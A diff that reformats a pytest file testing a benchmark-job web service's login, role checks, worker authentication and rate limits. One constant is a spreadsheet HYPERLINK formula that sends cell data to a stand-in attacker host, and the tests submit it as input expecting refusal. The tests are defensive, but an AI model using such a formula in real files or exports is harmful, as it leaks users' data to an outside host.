@@ -23,8 +23,12 @@ from tests.support.tables import BASE, POST, rows_for, write_csv
 
 ROLES = ("read", "submit", "worker", "admin")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-JOB = {"models": [{"name": "m-base", "path": "org/base"}, {"name": "m-post", "path": "org/post"}],
-       "benchmarks": ["piqa"], "seeds": [0], "config": {"engine": "vllm"}}  # fmt: skip
+JOB = {
+    "models": [{"name": "m-base", "path": "org/base"}, {"name": "m-post", "path": "org/post"}],
+    "benchmarks": ["piqa"],
+    "seeds": [0],
+    "config": {"engine": "vllm"},
+}
 
 
 @pytest.fixture
@@ -66,8 +70,9 @@ def _csrf(html: str) -> str:
 
 def _login(client: TestClient, token: str) -> None:
     csrf = _csrf(client.get("/login").text)
-    r = client.post("/login", data={"token": token, "csrf": csrf, "next": "/submit"},
-                    follow_redirects=False)  # fmt: skip
+    r = client.post(
+        "/login", data={"token": token, "csrf": csrf, "next": "/submit"}, follow_redirects=False
+    )
     assert r.status_code == 303 and r.headers["location"] == "/submit", r.text
 
 
@@ -161,8 +166,11 @@ def test_a_worker_name_is_taken_only_with_a_worker_token(world):
         shard = client.get(f"/api/jobs/{job['id']}").json()["shards"][0]["id"]
         # the attack: no token (or a made-up one) and a name for the job page
         for headers in ({}, _bearer("fm_" + "x" * 43)):
-            r = client.post(f"/api/shards/{shard}/progress", json={"done": 1},
-                            headers={**headers, "X-Forgetmap-Worker": name})  # fmt: skip
+            r = client.post(
+                f"/api/shards/{shard}/progress",
+                json={"done": 1},
+                headers={**headers, "X-Forgetmap-Worker": name},
+            )
             assert r.status_code == 401
             assert name not in client.get(f"/jobs/{job['id']}").text
             reason = client.get(f"/api/jobs/{job['id']}").json()["waiting_reason"]
@@ -251,8 +259,11 @@ def test_anonymous_lab_requests_beyond_the_bound_are_503_at_once(world):
             # the use beside it: a cached parameter set, and a logged-in caller, still answer
             assert client.get("/api/theory").json() == cached.json()
             signed_in = {}
-            t = threading.Thread(target=lambda: signed_in.setdefault(
-                "r", client.get(urls[anonymous + 1], headers=_bearer(tokens["read"]))))  # fmt: skip
+            t = threading.Thread(
+                target=lambda: signed_in.setdefault(
+                    "r", client.get(urls[anonymous + 1], headers=_bearer(tokens["read"]))
+                )
+            )
             t.start()
             _wait_until(
                 lambda: theory._identified_slots._value == theory.IDENTIFIED_LAB_REQUESTS - 1
@@ -321,8 +332,9 @@ def test_every_role_reads_a_private_forgetmap_and_no_token_does_not(world):
 def test_a_refusal_names_each_role_once(world):
     _, tokens, *_ = world
     with _client(world) as client:
-        r = client.post("/api/pairs", json={"base": "base-7b", "post": FORMULA},
-                        headers=_bearer(tokens["read"]))  # fmt: skip
+        r = client.post(
+            "/api/pairs", json={"base": "base-7b", "post": FORMULA}, headers=_bearer(tokens["read"])
+        )
         assert r.status_code == 403
         assert r.json()["detail"] == (
             "this needs a token with role submit or admin; token 'read' has role read"
